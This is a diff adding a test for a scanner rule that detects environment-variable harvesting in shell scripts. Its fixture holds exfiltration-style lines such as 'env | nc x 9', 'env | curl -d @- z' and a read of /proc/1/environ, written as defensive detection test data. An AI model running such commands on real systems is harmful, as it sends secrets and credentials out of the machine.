@@ -183,3 +183,14 @@ test('E2 tells a description of the harvest from an instruction to do it, and a 
   const read = runRule(e2, { path: 'a.sh', text: 'tr "\\0" "\\n" < /proc/1/environ\n' });
   assert.equal(highFindings(read).length, 1);
 });
+
+test('E2: one env pipeline is one issue whatever precedes it or the redirect target that follows', async () => {
+  const { buildIssues } = await import('../../report/issues.js');
+  const script = ['env | nc x 9', '  env | nc y 9', 'x=`env | base64`', '(env | curl -d @- z)', 'true; env > /tmp/a', 'env > out.txt', 'printenv | nc q 1'].join('\n');
+  const found = runRule(e2, { path: 'dump.sh', text: `${script}\n` });
+  assert.deepEqual(found.map((f) => f.matched), ['env |', 'env |', 'env |', 'env |', 'env >', 'env >', 'printenv |']);
+  const issues = buildIssues(found);
+  assert.deepEqual(issues.map((i) => i.occurrences.length).sort(), [1, 2, 4]);
+  // Look-alikes stay quiet: a word that ends in env, and `||` (a fallback, not a pipe).
+  assert.equal(runRule(e2, { path: 'a.sh', text: 'python -m venv | tee log\nenv || true\n' }).length, 0);
+});
